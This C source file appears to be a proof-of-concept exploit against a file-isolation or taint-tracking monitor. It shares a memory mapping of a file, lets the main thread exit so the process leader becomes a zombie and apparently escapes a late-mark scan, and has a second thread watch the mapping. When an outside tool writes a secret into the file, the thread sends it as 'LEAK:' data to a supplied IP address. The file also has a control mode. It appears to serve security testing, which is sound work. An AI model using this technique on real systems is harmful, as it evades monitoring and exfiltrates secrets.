// zombiemap IP PATH [keep]: sends PRE, maps PATH (MAP_SHARED, an ordinary file at the
// time), closes the descriptor, then the main thread exits alone (SYS_exit: the thread
// group leader becomes a zombie, its mm is released) while a second thread keeps the
// mapping and watches it; when the content changes (an outside tool renamed the file to
// a secret's name and wrote the secret into it), it sends what it sees. With "keep"
// the main thread stays alive (control: the late-mark scan then finds the mapping).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include "../../isolated-files-r4/send.c"
static const char *ip; static volatile char *map; static sigjmp_buf jb;
static void onbus(int s){ (void)s; siglongjmp(jb,1); }
static void *watch(void *a){ (void)a;
  signal(SIGBUS,onbus);
  char first[64]; memcpy(first,(const char*)map,63); first[63]=0;
  printf("mapped; first bytes: %.20s\n",first);
  usleep(100000); close(open("ready",O_CREAT|O_WRONLY,0644)); // tell the outside tool
  for(int i=0;i<3000;i++){ // up to 30 s
    char buf[64]={0};
    if(sigsetjmp(jb,1)==0){ memcpy(buf,(const char*)map,63); }
    if(buf[0] && strncmp(buf,first,5)){
      printf("MAPPING NOW HOLDS: %.40s\n",buf);
      char m[128]; int l=snprintf(m,sizeof m,"LEAK:%s",buf);
      printf("POST send: %d\n",send_buf(ip,m,l)); fflush(stdout); _exit(0);
    }
    usleep(10000);
  }
  printf("no change seen\n"); _exit(1);
}
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); ip=argv[1];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int fd=open(argv[2],O_RDONLY); if(fd<0){perror("open");return 1;}
  map=mmap(0,4096,PROT_READ,MAP_SHARED,fd,0); if(map==MAP_FAILED){perror("mmap");return 1;}
  close(fd);
  pthread_t t; pthread_create(&t,0,watch,0);
  if(argc>3){ printf("control: main thread stays\n"); pthread_join(t,0); return 0; }
  printf("main thread exits alone (leader becomes a zombie)\n");
  syscall(SYS_exit,0); return 0; }
